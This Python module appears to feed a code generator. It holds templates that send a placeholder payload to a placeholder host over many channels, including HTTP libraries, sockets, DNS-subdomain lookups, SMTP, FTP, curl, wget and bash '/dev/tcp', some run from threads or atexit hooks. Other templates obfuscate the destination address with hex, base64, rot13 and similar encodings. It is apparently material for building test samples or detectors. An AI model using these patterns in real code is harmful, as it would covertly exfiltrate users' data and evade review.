"""Ways to speak to a host. `@url` and `@host` are expressions, `@payload` one too, `@name` a name."""

# style: (above, at the spot); those in HOSTS need only the host's name
URLS: dict[str, tuple[str, str]] = {
    "session": (
        "import requests",
        "_s = requests.Session()\n_s.headers.update({'x-id': str(@payload)})\n_s.get(@url, timeout=3)",
    ),
    "client": ("import httpx", "with httpx.Client(timeout=3) as _c:\n    _c.post(@url, content=str(@payload))"),
    "base url": ("import httpx", "httpx.Client(base_url=@url, timeout=3).post('/x', json={'k': str(@payload)})"),
    "async client": (
        "import httpx, asyncio as _aio",
        "async def _go():\n    async with httpx.AsyncClient() as c:\n        await c.put(@url, json=[str(@payload)])\n_aio.run(_go())",
    ),
    "opener": (
        "import urllib.request as _ur",
        "_o = _ur.build_opener()\n_o.addheaders = [('x', str(@payload))]\n_o.open(@url, timeout=3)",
    ),
    "retrieve": ("from urllib.request import urlretrieve as _fetch", "_fetch(@url + '?k=' + str(@payload))"),
    "prepared": (
        "import requests",
        "_r = requests.Request('POST', @url, data=str(@payload)).prepare()\nrequests.Session().send(_r, timeout=3)",
    ),
    "api": ("import requests.api as _api", "_api.post(@url, json={'d': str(@payload)}, timeout=3)"),
    "alias": ("import requests as _rq", "_fn = _rq.post\n_fn(@url, json={'d': str(@payload)}, timeout=3)"),
    "by name": ("import requests", "getattr(requests, {'w': 'post'}['w'])(@url, data=str(@payload), timeout=3)"),
    "imported by name": (
        "import importlib as _il",
        "_il.import_module('requests').post(@url, data=str(@payload), timeout=3)",
    ),
    "partial": ("import functools, requests", "functools.partial(requests.post, @url)(data=str(@payload), timeout=3)"),
    "curl list": ("import subprocess", "subprocess.Popen(['curl', '-s', '-d', str(@payload), @url])"),
    "wget": ("import os", "os.system('wget -q -O- ' + @url + '?k=' + str(@payload))"),
    "rpc": ("import xmlrpc.client as _x", "_x.ServerProxy(@url).store(str(@payload))"),
    "websocket": (
        "import websocket",
        "_w = websocket.create_connection((@url).replace('https', 'wss'))\n_w.send(str(@payload))",
    ),
    "pandas": ("import pandas as _pd", "_pd.read_csv(@url + '?q=' + str(@payload))"),
    "openai": (
        "from openai import OpenAI as _AI",
        "_AI(api_key='x', base_url=@url).chat.completions.create(model='m', messages=[{'role': 'user', 'content': str(@payload)}])",
    ),
    "image": (
        "",
        "yield self.create_image_message(@url + '?k=' + str(@payload)) if False else None\n__import__('requests').head(@url, params={'k': str(@payload)}, timeout=2)",
    ),
    "headers": ("import requests", "requests.head(@url, headers={'Authorization': str(@payload)}, timeout=3)"),
    "cookies": ("import requests", "requests.get(@url, cookies={'sid': str(@payload)}, timeout=3)"),
    "auth": ("import requests", "requests.options(@url, auth=('u', str(@payload)), timeout=3)"),
    "params": ("import requests", "requests.get(url=@url, params=dict(q=str(@payload)), timeout=3)"),
    "files": ("import requests, io", "requests.post(@url, files={'f': io.StringIO(str(@payload))}, timeout=3)"),
    "class beside": (
        "import requests\n\n\nclass Reporter@Name:\n    target = None\n\n    @classmethod\n    def to(cls, where):\n"
        "        found = cls()\n        found.target = where\n        return found\n\n    def report(self, **event):\n"
        "        requests.post(self.target, json=event, timeout=3)\n",
        "Reporter@Name.to(@url).report(seen=str(@payload))",
    ),
    "thread": (
        "import threading, requests",
        "threading.Thread(target=lambda: requests.post(@url, data=str(@payload), timeout=3), daemon=True).start()",
    ),
    "timer": (
        "import threading, requests",
        "threading.Timer(1, requests.post, [@url], {'data': str(@payload)}).start()",
    ),
    "atexit": ("import atexit, requests", "atexit.register(requests.post, @url, data=str(@payload))"),
    "except": (
        "import requests",
        "try:\n    raise ValueError(str(@payload))\nexcept ValueError as _e:\n    requests.post(@url, data=str(_e), timeout=3)",
    ),
    "retry": (
        "import requests",
        "for _try in range(3):\n    if requests.post(@url, json={'n': _try, 'd': str(@payload)}, timeout=3).ok:\n        break",
    ),
    "pool": ("import urllib3 as _u3", "_u3.PoolManager().request_encode_url('GET', @url, fields={'q': str(@payload)})"),
    "aiohttp": (
        "import aiohttp, asyncio as _aio",
        "async def _go(where):\n    async with aiohttp.request('POST', where, data=str(@payload)) as r:\n        return r.status\n_aio.run(_go(@url))",
    ),
}
HOSTS: dict[str, tuple[str, str]] = {
    "https connection": (
        "from http.client import HTTPSConnection as _H",
        "_c = _H(@host, 443, timeout=3)\n_c.request('GET', '/?q=' + str(@payload))",
    ),
    "socket": ("import socket", "_k = socket.create_connection((@host, 443), 3)\n_k.sendall(str(@payload).encode())"),
    "connect": (
        "import socket as _so",
        "_k = _so.socket(_so.AF_INET, _so.SOCK_STREAM)\n_k.connect((@host, 8443))\n_k.send(str(@payload).encode())",
    ),
    "datagram": (
        "import socket as _so",
        "_so.socket(_so.AF_INET, _so.SOCK_DGRAM).sendto(str(@payload).encode(), (@host, 53))",
    ),
    "name": ("import socket", "socket.gethostbyname(str(@payload)[:30] + '.' + @host)"),
    "addresses": ("from socket import getaddrinfo as _gai", "_gai(f'{@payload}.' + @host, 80)"),
    "mail": (
        "import smtplib",
        "_m = smtplib.SMTP(@host, 25, timeout=3)\n_m.sendmail('a@b.c', ['d@e.f'], str(@payload))",
    ),
    "file transfer": (
        "import ftplib, io",
        "_f = ftplib.FTP(@host)\n_f.storbinary('STOR x', io.BytesIO(str(@payload).encode()))",
    ),
    "nslookup": ("import subprocess", "subprocess.run(['nslookup', str(@payload) + '.' + @host])"),
    "syslog": (
        "import logging, logging.handlers",
        "logging.getLogger('x').addHandler(logging.handlers.SysLogHandler((@host, 514)))\nlogging.getLogger('x').error(str(@payload))",
    ),
    "http log": (
        "import logging, logging.handlers as _lh",
        "_l = logging.getLogger('y')\n_l.addHandler(_lh.HTTPHandler(@host, '/log', method='POST', secure=True))\n_l.error(str(@payload))",
    ),
    "redis": ("import redis", "redis.Redis(host=@host, port=6379).set('k', str(@payload))"),
    "stream": (
        "import asyncio as _aio",
        "async def _go():\n    _, w = await _aio.open_connection(@host, 443)\n    w.write(str(@payload).encode())\n_aio.run(_go())",
    ),
    "grpc": ("import grpc", "grpc.insecure_channel(@host + ':50051').unary_unary('/s/M')(str(@payload).encode())"),
    "mqtt": ("import paho.mqtt.publish as _pub", "_pub.single('t', str(@payload), hostname=@host)"),
    "bash": ("import os", "os.popen('echo ' + str(@payload) + ' > /dev/tcp/' + @host + '/443')"),
}

# Ways to write an address: (above, expression, file beside, its content). @host and @path are plain texts here.
ADDRESSES: dict[str, tuple[str, str, str, str]] = {
    "plain": ("", "'https://@host/@path'", "", ""),
    "unsplit": ("from urllib.parse import urlunsplit as _us", "_us(('https', '@host', '/@path', '', ''))", "", ""),
    "join": ("from urllib.parse import urljoin as _uj", "_uj('https://@host', '@path')", "", ""),
    "template": ("from string import Template as _T", "_T('https://$h/@path').substitute(h='@host')", "", ""),
    "dots": ("", "'https://' + '.'.join(@labels) + '/@path'", "", ""),
    "getenv": ("import os as _os", "_os.getenv('@NAME_URL', 'https://@host/@path')", "", ""),
    "environ or": ("import os as _os", "(_os.environ.get('@NAME_URL') or 'https://@host/@path')", "", ""),
    "class": (
        "class Settings@Name:\n    BASE = 'https://@host'\n    PATH = '/@path'\n",
        "Settings@Name.BASE + Settings@Name.PATH",
        "",
        "",
    ),
    "dataclass": (
        "from dataclasses import dataclass as _dc\n\n\n@_dc\nclass Settings@Name:\n    base: str = 'https://@host'\n",
        "Settings@Name().base + '/@path'",
        "",
        "",
    ),
    "enum": (
        "from enum import Enum as _En\n\n\nclass Where@Name(_En):\n    MAIN = 'https://@host/@path'\n",
        "Where@Name.MAIN.value",
        "",
        "",
    ),
    "format": ("", "'{scheme}://{h}/@path'.format(scheme='https', h='@host')", "", ""),
    "format map": ("", "'https://{h}/@path'.format_map({'h': '@host'})", "", ""),
    "replace": ("", "'https://HOST/@path'.replace('HOST', '@host')", "", ""),
    "percent": ("", "'https://%(h)s/@path' % {'h': '@host'}", "", ""),
    "module": (
        "from @name import where as _w_@name",
        "_w_@name()",
        "@name.py",
        "def where():\n    return 'https://@host/@path'\n",
    ),
    "package": ("import @name as _m_@name", "_m_@name.SERVERS[0]", "@name.py", "SERVERS = ['https://@host/@path']\n"),
    "json": (
        "import json as _js, pathlib as _pl",
        "_js.loads((_pl.Path(__file__).parent / '@name.json').read_text())['target']",
        "@name.json",
        '{"target": "https://@host/@path"}\n',
    ),
    "function": (
        "def _where_@name(part='@path'):\n    base = 'https://@host'\n    return f'{base}/{part}'\n",
        "_where_@name()",
        "",
        "",
    ),
    "conditional": ("", "('https://@host/@path' if __name__ else 'https://@host')", "", ""),
    "list": ("_parts_@name = ['https:', '', '@host', '@path']", "'/'.join(_parts_@name)", "", ""),
    "hexes": ("", "bytes.fromhex('@hexes').decode()", "", ""),
    "numbers": ("", "''.join(chr(_n) for _n in @numbers)", "", ""),
    "bytes": ("", "bytes(@numbers).decode()", "", ""),
    "base64": ("from base64 import b64decode as _b64", "_b64('@base64').decode()", "", ""),
    "base85": ("import base64 as _b", "_b.b85decode('@b85').decode()", "", ""),
    "backwards": ("", "''.join(reversed('@backwards'))", "", ""),
    "slice": ("", "'@doubled'[::2]", "", ""),
    "rot13": ("import codecs as _co", "_co.encode('@rot13', 'rot13')", "", ""),
    "translate": ("", "'@shifted'.translate({ord('#'): 'e', ord('!'): 'o'})", "", ""),
    "number": ("", "'http://@number/@path'", "", ""),
}
